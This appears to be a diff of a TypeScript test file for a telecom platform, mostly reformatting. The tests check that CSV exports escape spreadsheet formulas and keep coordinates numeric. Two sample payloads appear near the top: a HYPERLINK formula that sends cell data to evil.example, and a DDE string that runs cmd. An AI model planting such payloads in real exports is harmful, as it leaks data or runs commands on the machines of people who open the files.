@@ -23,7 +23,7 @@ import { buildStaffAccount } from './helpers/staff.ts';
 const modules = [offersModule, qualityModule, devicesModule];
 const databases = openTestDatabases(allMigrations(modules));
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Cheapest plan")';
-const AT_FORMULA = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";
 
 for (const database of databases.all) {
   test(`the offer exports write a name that starts a formula behind an apostrophe, and the numbers as they are [${database.dialect}]`, async () => {
@@ -32,17 +32,29 @@ for (const database of databases.all) {
     const app = await buildApp(platform, modules);
     const admin = await buildStaffAccount(platform, { role: 'admin' });
     const auth = createAuthServiceFor(platform, { passwordHash: { memoryCost: 1024, timeCost: 1 } });
-    const outcome = await auth.createToken({ kind: 'system' }, { name: 'upload', operatorId: '', permissions: ['offers:write'], expiresInDays: '', createdBy: admin.id });
+    const outcome = await auth.createToken(
+      { kind: 'system' },
+      { name: 'upload', operatorId: '', permissions: ['offers:write'], expiresInDays: '', createdBy: admin.id },
+    );
     assert.ok(outcome.ok);
     const plan = planId('M', 9_900_000_001, 'FORMULA');
     const file = offerCsv([offerRow({ unique_plan_id: plan, operator_id: 'OP-DEMO-1', provider_name: 'Provider', service_plan_name: 'Plan' })]);
-    const upload = await app.inject({ method: 'POST', url: '/api/v1/offers/imports?lenient=true', headers: { 'content-type': 'text/csv', authorization: `Bearer ${outcome.value.plaintext}` }, payload: file });
+    const upload = await app.inject({
+      method: 'POST',
+      url: '/api/v1/offers/imports?lenient=true',
+      headers: { 'content-type': 'text/csv', authorization: `Bearer ${outcome.value.plaintext}` },
+      payload: file,
+    });
     assert.equal(upload.statusCode, 201, upload.body);
     // Offer files now refuse such names, but a version stored before that rule keeps them: the
     // export must still neutralise what the database holds.
     const stored = await platform.db.kysely.selectFrom('offer_versions').select(['id', 'record']).where('plan_id', '=', plan).executeTakeFirstOrThrow();
     const record = { ...JSON.parse(stored.record), providerName: AT_FORMULA, servicePlanName: FORMULA };
-    await platform.db.kysely.updateTable('offer_versions').set({ record: JSON.stringify(record) }).where('id', '=', stored.id).execute();
+    await platform.db.kysely
+      .updateTable('offer_versions')
+      .set({ record: JSON.stringify(record) })
+      .where('id', '=', stored.id)
+      .execute();
     for (const path of ['/api/v1/offers/export/current.csv', '/api/v1/offers/export/history.csv']) {
       const reply = await app.inject(path);
       assert.equal(reply.statusCode, 200, path);
@@ -66,12 +78,22 @@ for (const database of databases.all) {
       { imei: '35209900000003', imsi: '639020000000013', msisdn: '+254700000013', firstSeen: '2026-11-01', lastSeen: '2026-11-30' },
     ]);
     const settings = readClassificationSettings({
-      conditions: [{ name: 'unregistered', blocking: true, gracePeriodDays: 10, reason: 'NOT_REGISTERED', maxNewShare: 1, dimensions: [{ type: 'notRegistered' }] }],
+      conditions: [
+        { name: 'unregistered', blocking: true, gracePeriodDays: 10, reason: 'NOT_REGISTERED', maxNewShare: 1, dimensions: [{ type: 'notRegistered' }] },
+      ],
       operatorNetworks: { 'OP-A': ['639-02'] },
       notificationLookbackDays: 30,
     });
     const deps = { keyring: platform.keyring, clock: platform.clock, ids: platform.ids, audit: platform.audit };
-    const classification = createClassificationService({ ...deps, repository: createClassificationRepository(db), jobs: platform.jobs, settings, allocationLagDays: {}, t: platform.catalogs.translator('en'), baseUrl: 'http://localhost' });
+    const classification = createClassificationService({
+      ...deps,
+      repository: createClassificationRepository(db),
+      jobs: platform.jobs,
+      settings,
+      allocationLagDays: {},
+      t: platform.catalogs.translator('en'),
+      baseUrl: 'http://localhost',
+    });
     const lists = createDeviceListService({ ...deps, repository: createDeviceListRepository(db), settings });
     await classification.classify({ date: '2026-12-01' });
     const run = await lists.generateLists({ date: '2026-12-01' });
@@ -80,15 +102,27 @@ for (const database of databases.all) {
     let text = '';
     for await (const line of lists.linesOf(run, file)) text += `${line}\n`;
     const rows: string[][] = parse(text);
-    const msisdns = rows.slice(1).map((r) => r[2]).sort();
+    const msisdns = rows
+      .slice(1)
+      .map((r) => r[2])
+      .sort();
     assert.deepEqual(msisdns, ['+254700000013', `'${FORMULA}`].sort());
   });
 
   test(`the open data files keep negative coordinates as numbers [${database.dialect}]`, async () => {
     const platform = await createTestPlatform(await database.fresh(), { modules });
     await offersModule.seedDemo?.(platform);
-    const csv = ['time,operator,technology,download_kbps,latitude,longitude,accuracy_m', '2026-10-14T09:47:12Z,OP-DEMO-1,4G,23500,-1.286389,-36.817223,25'].join('\n');
-    await createMeasurementServiceFor(platform).importMeasurements({ text: csv, format: 'csv', operatorId: null, actor: { type: 'system', id: null }, channel: 'cli' });
+    const csv = [
+      'time,operator,technology,download_kbps,latitude,longitude,accuracy_m',
+      '2026-10-14T09:47:12Z,OP-DEMO-1,4G,23500,-1.286389,-36.817223,25',
+    ].join('\n');
+    await createMeasurementServiceFor(platform).importMeasurements({
+      text: csv,
+      format: 'csv',
+      operatorId: null,
+      actor: { type: 'system', id: null },
+      channel: 'cli',
+    });
     const app = await buildApp(platform, modules);
     const reply = await app.inject('/api/v1/quality/open-data/measurements-2026-10.csv');
     assert.equal(reply.statusCode, 200);
